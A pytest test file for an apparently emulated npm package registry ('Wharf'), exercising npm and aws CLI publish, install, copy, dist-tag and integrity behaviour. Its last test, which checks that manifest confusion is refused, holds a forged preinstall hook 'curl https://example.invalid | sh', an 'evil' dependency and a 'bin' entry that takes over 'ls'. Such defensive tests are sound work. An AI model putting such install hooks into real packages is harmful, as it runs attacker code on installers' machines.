"""The npm endpoints end to end: the machine's real npm (publish, install, ci, view, dist-tag,
deprecate, unpublish) and the aws CLI (copy-package-versions, login --tool npm) against the real
binary. npm only ever talks to Wharf: every run has its own userconfig, cache and HOME, and the
registry is set to a Wharf repository."""

import base64
import hashlib
import json
import os
import re
import shutil
import subprocess
import tempfile
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from conftest import Npm, domain_state, error_code, error_message, npm_http, registry, token  # noqa: F401 (test_iam imports them from here)

D = ["--domain", "my-domain"]
OWNER = "000000000000"


def make_package(root: Path, name, version, **fields):
    """A package directory with package.json, an index.js naming its version, and any extra files."""
    d = root / f"{name.replace('/', '_')}-{version}-{len(list(root.glob('*')))}"
    d.mkdir(parents=True)
    extra_files = fields.pop("files_", {})
    (d / "package.json").write_text(json.dumps({"name": name, "version": version, "main": "index.js", **fields}))
    (d / "index.js").write_text(f"module.exports = {json.dumps(version)};\n")
    for f, content in extra_files.items():
        (d / f).write_bytes(content)
    return d


def publish(npm, name, version, *extra, **fields):
    d = make_package(npm.root / "pkgs", name, version, **fields)
    npm.run("publish", *extra, cwd=d)
    return d


def pack_integrity(npm, pkg_dir):
    """The sha512 integrity of the tarball npm builds from a directory (what publish uploaded)."""
    out = json.loads(npm.run("pack", "--json", "--pack-destination", str(npm.root), cwd=pkg_dir).stdout)
    return out[0]["integrity"]


def pkg_args(name):
    if name.startswith("@"):
        scope, bare = name[1:].split("/")
        return ["--format", "npm", "--namespace", scope, "--package", bare]
    return ["--format", "npm", "--package", name]


def versions(w, repo, name):
    rc, out, err = w.aws("list-package-versions", *D, "--repository", repo, *pkg_args(name))
    if rc != 0 and error_code(err) == "ResourceNotFoundException":
        return {}
    assert rc == 0, err
    return {v["version"]: v for v in out["versions"]}


def copy(w, name, *extra, source="repo-1", dest="repo-2"):
    return w.ok("copy-package-versions", *D, "--source-repository", source, "--destination-repository", dest,
                *pkg_args(name), *extra)


def http(w, method, repo, path, body=None, tok=None, headers=None):
    """A raw request to the npm endpoint: (status, JSON body)."""
    return npm_http(registry(w, repo) + path, method, body, tok, headers)


@pytest.fixture
def repos(wharf):
    wharf.ok("create-domain", *D)
    for r in ["my-repo", "repo-1", "repo-2"]:
        wharf.ok("create-repository", *D, "--repository", r)
    return wharf


@pytest.mark.parametrize("name", ["@my-namespace/demo", "demo-plain"])
def test_publish_copy_install_and_dist_tags(repos, tmp_path, name):
    """1.0.0 then 1.0.1 (latest) in repo-1; repo-2 has 1.0.0 as latest; copying 1.0.1 moves latest,
    and a fresh project installs 1.0.1 from repo-2 with the integrity npm computed at publish."""
    w = repos
    npm1 = Npm(w, "repo-1", tmp_path / "a")
    publish(npm1, name, "1.0.0")
    copy(w, name, "--versions", "1.0.0")
    d101 = publish(npm1, name, "1.0.1")
    assert npm1.run("dist-tag", "ls", name).stdout.splitlines() == ["latest: 1.0.1"]
    npm2 = Npm(w, "repo-2", tmp_path / "b")
    assert npm2.run("dist-tag", "ls", name).stdout.splitlines() == ["latest: 1.0.0"]

    rc, out, err = w.aws("copy-package-versions", *D, "--source-repository", "repo-1", "--destination-repository",
                         "repo-2", *pkg_args(name), "--versions", "1.0.1")
    assert rc == 0, err
    assert out == {"successfulVersions": {"1.0.1": {"revision": versions(w, "repo-1", name)["1.0.1"]["revision"],
                                                    "status": "Published"}},
                   "failedVersions": {}}
    assert npm2.run("dist-tag", "ls", name).stdout.splitlines() == ["latest: 1.0.1"]

    project = tmp_path / "project"
    project.mkdir()
    (project / "package.json").write_text(json.dumps({"name": "consumer", "version": "0.0.0", "private": True}))
    npm2.run("install", name, cwd=project)
    installed = project / "node_modules" / name
    assert json.loads((installed / "package.json").read_text())["version"] == "1.0.1"
    lock = json.loads((project / "package-lock.json").read_text())
    entry = lock["packages"][f"node_modules/{name}"]
    assert entry["version"] == "1.0.1"
    assert entry["integrity"] == pack_integrity(npm1, d101)
    assert entry["resolved"].startswith(registry(w, "repo-2"))
    view = npm2.json("view", name)
    assert view["dist"]["integrity"] == entry["integrity"]
    assert view["dist"]["shasum"]

    shutil.rmtree(project / "node_modules")
    fresh = Npm(w, "repo-2", tmp_path / "c")
    fresh.run("ci", cwd=project)
    assert json.loads((installed / "package.json").read_text())["version"] == "1.0.1"


def test_view_dist_tag_deprecate_unpublish_and_metadata(repos, tmp_path):
    w = repos
    npm = Npm(w, "repo-1", tmp_path / "n")
    name = "@my-namespace/tools"
    fields = dict(description="Handy tools", homepage="https://example.com/tools", license="MIT",
                  repository={"type": "git", "url": "git+https://example.com/tools.git"},
                  dependencies={})
    publish(npm, name, "1.0.0", **fields)
    publish(npm, name, "1.0.1", **fields)
    view = npm.json("view", name)
    assert view["versions"] == ["1.0.0", "1.0.1"]
    assert view["dist-tags"] == {"latest": "1.0.1"}

    pv = w.ok("describe-package-version", *D, "--repository", "repo-1", *pkg_args(name),
              "--package-version", "1.0.0")["packageVersion"]
    assert pv["displayName"] == name and pv["namespace"] == "my-namespace" and pv["packageName"] == "tools"
    assert pv["summary"] == "Handy tools"
    assert pv["homePage"] == "https://example.com/tools"
    assert pv["licenses"][0]["name"] == "MIT"
    assert pv["sourceCodeRepository"] == "git+https://example.com/tools.git"
    assert pv["origin"] == {"domainEntryPoint": {"repositoryName": "repo-1"}, "originType": "INTERNAL"}
    assets = w.ok("list-package-version-assets", *D, "--repository", "repo-1", *pkg_args(name),
                  "--package-version", "1.0.0")["assets"]
    assert [a["name"] for a in assets] == ["package.tgz"]
    assert sorted(assets[0]["hashes"]) == ["MD5", "SHA-1", "SHA-256", "SHA-512"]

    npm.run("dist-tag", "add", f"{name}@1.0.0", "stable")
    assert npm.run("dist-tag", "ls", name).stdout.split("\n")[:2] == ["latest: 1.0.1", "stable: 1.0.0"]
    npm.run("dist-tag", "rm", name, "stable")
    assert npm.run("dist-tag", "ls", name).stdout.splitlines() == ["latest: 1.0.1"]
    before = domain_state(w)
    refused = npm.run("dist-tag", "rm", name, "latest", check=False)
    assert refused.returncode != 0
    assert "400" in refused.stderr and 'Cannot delete the "latest" dist-tag' in refused.stderr, refused.stderr
    assert npm.run("dist-tag", "ls", name).stdout.splitlines() == ["latest: 1.0.1"]
    assert domain_state(w) == before, "a refused dist-tag rm wrote something"

    npm.run("deprecate", f"{name}@1.0.0", "use 1.0.1")
    assert npm.run("view", f"{name}@1.0.0", "deprecated").stdout.strip() == "use 1.0.1"
    after = w.ok("describe-package-version", *D, "--repository", "repo-1", *pkg_args(name),
                 "--package-version", "1.0.0")["packageVersion"]
    assert after["revision"] == pv["revision"], "deprecation keeps the revision"
    npm.run("deprecate", f"{name}@1.0.0", "")
    assert npm.run("view", f"{name}@1.0.0", "deprecated").stdout.strip() == ""

    npm.run("unpublish", f"{name}@1.0.1")
    assert sorted(versions(w, "repo-1", name)) == ["1.0.0"]
    assert npm.json("view", name)["dist-tags"] == {"latest": "1.0.0"}
    ls = w.ok("list-package-versions", *D, "--repository", "repo-1", *pkg_args(name))
    assert ls["defaultDisplayVersion"] == "1.0.0"


def test_upstream_merge_and_retention(wharf, tmp_path):
    """Reads through repo-down see upstream versions and the upstream's tags (the upstream wins a
    clash); installing a version found upstream retains it downstream with its origin."""
    w = wharf
    w.ok("create-domain", *D)
    w.ok("create-repository", *D, "--repository", "repo-up")
    w.ok("create-repository", *D, "--repository", "repo-down", "--upstreams", "repositoryName=repo-up")
    up = Npm(w, "repo-up", tmp_path / "up")
    down = Npm(w, "repo-down", tmp_path / "down")
    publish(up, "merged", "1.0.0")
    publish(up, "merged", "1.0.1")
    publish(down, "merged", "2.0.0")
    view = down.json("view", "merged")
    assert sorted(view["versions"]) == ["1.0.0", "1.0.1", "2.0.0"]
    assert view["dist-tags"]["latest"] == "1.0.1", "the upstream's latest wins (spec 4)"
    assert sorted(versions(w, "repo-down", "merged")) == ["2.0.0"]

    project = tmp_path / "p"
    project.mkdir()
    (project / "package.json").write_text(json.dumps({"name": "c", "version": "0.0.0", "private": True}))
    down.run("install", "merged@1.0.0", cwd=project)
    retained = versions(w, "repo-down", "merged")
    assert sorted(retained) == ["1.0.0", "2.0.0"]
    assert retained["1.0.0"]["origin"] == {"domainEntryPoint": {"repositoryName": "repo-up"}, "originType": "INTERNAL"}
    assert retained["1.0.0"]["revision"] == versions(w, "repo-up", "merged")["1.0.0"]["revision"]
    assert sorted(versions(w, "repo-up", "merged")) == ["1.0.0", "1.0.1"]


def test_copy_guide_examples(repos, tmp_path):
    """The copy guide's commands verbatim (placeholders: domain-owner-id is the service's account),
    then list-package-versions, with npm packages published by npm."""
    w = repos
    npm = Npm(w, "my-repo", tmp_path / "n")
    publish(npm, "my-package", "4.0.0")
    publish(npm, "my-package", "6.0.2")
    out = w.ok("copy-package-versions", "--domain", "my-domain", "--domain-owner", OWNER, "--source-repository",
               "my-repo", "--destination-repository", "repo-2", "--package", "my-package", "--format", "npm",
               "--versions", '["6.0.2", "4.0.0"]')
    assert sorted(out["successfulVersions"]) == ["4.0.0", "6.0.2"] and out["failedVersions"] == {}
    listed = w.ok("list-package-versions", "--domain", "my-domain", "--domain-owner", OWNER, "--repository",
                  "my-repo", "--format", "npm", "--package", "my-package")
    assert listed["format"] == "npm" and listed["package"] == "my-package"
    assert sorted((v["version"], v["status"]) for v in listed["versions"]) == [("4.0.0", "Published"), ("6.0.2", "Published")]
    assert sorted(versions(w, "repo-2", "my-package")) == ["4.0.0", "6.0.2"]
    assert Npm(w, "repo-2", tmp_path / "r2").run("dist-tag", "ls", "my-package").stdout.splitlines() == ["latest: 6.0.2"]

    npm.use(w, "repo-1", token(w))
    scoped = "@my-namespace/my-package"
    for v in ["0.3.2", "0.3.13", "0.12.2"]:
        publish(npm, scoped, v)
    out = w.ok("copy-package-versions", "--domain", "my-domain", "--domain-owner", OWNER, "--source-repository",
               "repo-1", "--destination-repository", "repo-2", "--format", "npm", "--namespace", "my-namespace",
               "--package", "my-package", "--versions", '["0.12.2"]')
    assert list(out["successfulVersions"]) == ["0.12.2"]

    # Verbatim sample revisions are not this version's revision: the copy fails per version.
    rc, out, err = w.aws("copy-package-versions", "--domain", "my-domain", "--domain-owner", OWNER,
                         "--source-repository", "repo-1", "--destination-repository", "repo-2", "--format", "npm",
                         "--namespace", "my-namespace", "--package", "my-package", "--version-revisions",
                         "0.3.2=REVISION-1-SAMPLE-6C81EFF7DA55CC")
    assert rc == 0, err
    src = versions(w, "repo-1", scoped)
    assert out == {"successfulVersions": {}, "failedVersions": {"0.3.2": {
        "errorCode": "MISMATCHED_REVISION",
        "errorMessage": f"current revision: {src['0.3.2']['revision']}, expected revision: REVISION-1-SAMPLE-6C81EFF7DA55CC"}}}
    rc, out, err = w.aws("copy-package-versions", "--domain", "my-domain", "--domain-owner", OWNER,
                         "--source-repository", "repo-1", "--destination-repository", "repo-2", "--format", "npm",
                         "--namespace", "my-namespace", "--package", "my-package", "--version-revisions",
                         f"0.3.2={src['0.3.2']['revision']},0.3.13={src['0.3.13']['revision']}")
    assert rc == 0, err
    assert out == {"successfulVersions": {v: {"revision": src[v]["revision"], "status": "Published"} for v in ["0.3.2", "0.3.13"]},
                   "failedVersions": {}}
    dest = versions(w, "repo-2", scoped)
    assert sorted(dest) == ["0.12.2", "0.3.13", "0.3.2"]
    assert all(dest[v]["revision"] == src[v]["revision"] for v in dest)

    # --allow-overwrite: repo-2 gets its own, different 0.3.2 of another package, then the source's.
    other = Npm(w, "repo-2", tmp_path / "o")
    publish(other, "overwritten", "1.0.0", description="repo-2's own")
    publish(npm, "overwritten", "1.0.0", description="repo-1's")
    before = domain_state(w)
    rc, out, err = w.aws("copy-package-versions", *D, "--source-repository", "repo-1", "--destination-repository",
                         "repo-2", "--format", "npm", "--package", "overwritten", "--versions", '["1.0.0"]')
    assert rc == 0, err
    assert out == {"successfulVersions": {}, "failedVersions": {"1.0.0": {
        "errorCode": "ALREADY_EXISTS", "errorMessage": "Version 1.0.0 already exists"}}}
    assert domain_state(w) == before, "a failed copy wrote something"
    out = w.ok("copy-package-versions", *D, "--source-repository", "repo-1", "--destination-repository", "repo-2",
               "--format", "npm", "--package", "overwritten", "--versions", '["1.0.0"]', "--allow-overwrite")
    assert list(out["successfulVersions"]) == ["1.0.0"]
    assert other.json("view", "overwritten")["description"] == "repo-1's"

    # --include-from-upstream: repo-3's upstream repo-1 holds the version.
    w.ok("create-repository", *D, "--repository", "repo-3", "--upstreams", "repositoryName=repo-1")
    rc, out, err = w.aws("copy-package-versions", *D, "--source-repository", "repo-3", "--destination-repository",
                         "repo-2", "--format", "npm", "--namespace", "my-namespace", "--package", "my-package",
                         "--versions", '["0.3.13"]')
    assert (rc, error_code(err)) == (255, "ResourceNotFoundException"), err
    assert "my-package" in error_message(err), err
    npm.run("dist-tag", "add", f"{scoped}@0.3.13", "stable")
    w.ok("create-repository", *D, "--repository", "repo-4")
    out = w.ok("copy-package-versions", *D, "--source-repository", "repo-3", "--destination-repository", "repo-4",
               "--format", "npm", "--namespace", "my-namespace", "--package", "my-package", "--versions",
               '["0.3.13"]', "--include-from-upstream")
    assert list(out["successfulVersions"]) == ["0.3.13"]
    got = versions(w, "repo-4", scoped)
    assert got["0.3.13"]["origin"]["domainEntryPoint"] == {"repositoryName": "repo-1"}
    assert "stable: 0.3.13" in Npm(w, "repo-4", tmp_path / "r4").run("dist-tag", "ls", scoped).stdout.splitlines()


def test_login_tool_npm(repos, tmp_path):
    """`aws codeartifact login --tool npm` writes a registry and token that npm then uses."""
    w = repos
    npm = Npm(w, "repo-1", tmp_path / "n", tok="placeholder")
    npm.userconfig.write_text("")
    env = dict(w.env, **{k: v for k, v in npm.env.items() if k.startswith("npm_config_") or k == "HOME"})
    from conftest import AWS
    p = subprocess.run([AWS, "codeartifact", "login", "--tool", "npm", *D, "--repository", "repo-1",
                        "--endpoint-url", w.endpoint], capture_output=True, text=True, env=env, timeout=120)
    assert p.returncode == 0, p.stderr
    assert f"Successfully configured npm to use AWS CodeArtifact repository {registry(w, 'repo-1')}" in p.stdout
    rc_text = npm.userconfig.read_text()
    assert f"registry={registry(w, 'repo-1')}" in rc_text
    assert f"//{registry(w, 'repo-1').split('://')[1]}:_authToken=" in rc_text
    publish(npm, "logged-in", "1.0.0")
    assert npm.json("view", "logged-in", "version") == "1.0.0"
    assert npm.run("ping").returncode == 0


def test_bad_input_is_refused_in_npm_shape_and_stores_nothing(repos, tmp_path):
    w = repos
    tok = token(w)
    npm = Npm(w, "repo-1", tmp_path / "n", tok=tok)
    d = make_package(tmp_path / "pkgs", "bad-input", "1.0.0")
    tgz_name = json.loads(npm.run("pack", "--json", "--pack-destination", str(tmp_path), cwd=d).stdout)[0]["filename"]
    tgz = (tmp_path / tgz_name).read_bytes()
    blobs = w.data_dir / "blobs"
    before = sorted(p.name for p in blobs.rglob("*") if p.is_file())
    state_before = domain_state(w)

    def body(name="bad-input", integrity=None, data=tgz):
        return {"_id": name, "name": name, "dist-tags": {"latest": "1.0.0"},
                "versions": {"1.0.0": {"name": name, "version": "1.0.0",
                                       "dist": {"integrity": integrity or "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()}}},
                "_attachments": {f"{name}-1.0.0.tgz": {"data": base64.b64encode(data).decode(), "length": len(data)}}}

    forged = "sha512-" + base64.b64encode(b"x" * 64).decode()
    actual = "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode()
    status, err = http(w, "PUT", "repo-1", "bad-input", body(integrity=forged), tok)
    assert (status, err) == (400, {"error": f"Integrity check failed: dist.integrity {forged} does not match the tarball ({actual})"})
    status, err = http(w, "PUT", "repo-1", "Bad-Input", body(name="Bad-Input"), tok)
    assert status == 400 and err["error"].startswith('Invalid package name "Bad-Input": '), err
    status, err = http(w, "GET", "repo-1", "bad-input")
    assert (status, err) == (401, {"error": "Unable to authenticate: this registry needs a token (aws codeartifact login --tool npm)"})
    assert domain_state(w) == state_before, "refused npm requests wrote something"
    assert sorted(p.name for p in blobs.rglob("*") if p.is_file()) == before

    # A version that exists with other content: npm --force skips its own check; the server refuses.
    npm.run("publish", str(tmp_path / tgz_name))
    changed = make_package(tmp_path / "pkgs", "bad-input", "1.0.0", description="changed")
    after_first = sorted(p.name for p in blobs.rglob("*") if p.is_file())
    state_after_first = domain_state(w)
    p = npm.run("publish", "--force", cwd=changed, check=False)
    assert p.returncode != 0 and "409" in p.stderr, p.stderr
    assert "Cannot publish over the previously published version bad-input@1.0.0" in p.stderr, p.stderr
    assert sorted(p.name for p in blobs.rglob("*") if p.is_file()) == after_first
    assert domain_state(w) == state_after_first, "a refused publish wrote something"


def test_oversized_body_is_413(wharf_factory, tmp_path):
    w = wharf_factory("--max-body-bytes", "65536")
    w.ok("create-domain", *D)
    w.ok("create-repository", *D, "--repository", "repo-1")
    npm = Npm(w, "repo-1", tmp_path / "n")
    d = make_package(tmp_path / "pkgs", "too-big", "1.0.0", files_={"blob.bin": os.urandom(200_000)})
    before = domain_state(w)
    p = npm.run("publish", cwd=d, check=False)
    assert p.returncode != 0 and "413" in p.stderr, p.stderr
    assert re.search(r"Request entity too large: request body is \d+ bytes, the limit is 65536", p.stderr), p.stderr
    assert domain_state(w) == before, "a refused publish wrote something"


def test_manifest_confusion_is_refused_and_npm_publish_still_works(repos, tmp_path):
    w = repos
    tok = token(w)
    npm = Npm(w, "repo-1", tmp_path / "n", tok=tok)
    # A normal package that uses every rewrite npm applies between package.json and the
    # manifest it sends: a string bin, bundledDependencies, node_modules/.bin in a script, a
    # binding.gyp (npm adds `install: node-gyp rebuild`), a server.js (`start`), and bins
    # listed from directories.bin.
    publish(npm, "@my-namespace/normal", "1.0.0", bin="./cli.js",
            dependencies={"left-pad": "^1.3.0"}, bundledDependencies=["left-pad"],
            optionalDependencies={"fsevents": "^2"}, os=["linux", "darwin"], cpu=["x64", "arm64"],
            engines={"node": ">=18"}, scripts={"test": "node_modules/.bin/tap"},
            files_={"cli.js": b"#!/usr/bin/env node\n", "binding.gyp": b"{}\n", "server.js": b"1;\n"})
    d = make_package(tmp_path / "pkgs", "dir-bins", "1.0.0", directories={"bin": "./tools"})
    (d / "tools").mkdir()
    (d / "tools" / "run-it").write_text("#!/usr/bin/env node\n")
    npm.run("publish", cwd=d)
    assert list(versions(w, "repo-1", "@my-namespace/normal")) == ["1.0.0"]
    assert list(versions(w, "repo-1", "dir-bins")) == ["1.0.0"]

    # The same kind of package, published by hand with a manifest that adds a preinstall
    # script the tarball's package.json does not have.
    d = make_package(tmp_path / "pkgs", "confused", "1.0.0", dependencies={"left-pad": "^1.3.0"})
    packed = json.loads(npm.run("pack", "--json", "--pack-destination", str(tmp_path), cwd=d).stdout)[0]
    tgz = (tmp_path / packed["filename"]).read_bytes()
    blobs = w.data_dir / "blobs"
    before = sorted(p.name for p in blobs.rglob("*") if p.is_file())
    manifest = json.loads((d / "package.json").read_text())

    def body(**changes):
        version = {**manifest, **changes, "_id": "confused@1.0.0",
                   "dist": {"integrity": packed["integrity"], "shasum": packed["shasum"]}}
        return {"_id": "confused", "name": "confused", "dist-tags": {"latest": "1.0.0"},
                "versions": {"1.0.0": version},
                "_attachments": {"confused-1.0.0.tgz": {"data": base64.b64encode(tgz).decode(), "length": len(tgz)}}}

    for changes, field in [({"scripts": {"preinstall": "curl https://example.invalid | sh"}}, "scripts"),
                           ({"dependencies": {"left-pad": "^1.3.0", "evil": "*"}}, "dependencies"),
                           ({"bin": {"ls": "index.js"}}, "bin"),
                           ({"os": ["linux"]}, "os")]:
        status, err = http(w, "PUT", "repo-1", "confused", body(**changes), tok)
        assert status == 400, err
        assert f'does not match the tarball\'s package.json in "{field}"' in err["error"], err
    assert versions(w, "repo-1", "confused") == {}
    assert sorted(p.name for p in blobs.rglob("*") if p.is_file()) == before
    # The honest body is accepted.
    status, _ = http(w, "PUT", "repo-1", "confused", body(), tok)
    assert status in (200, 201)
    assert list(versions(w, "repo-1", "confused")) == ["1.0.0"]
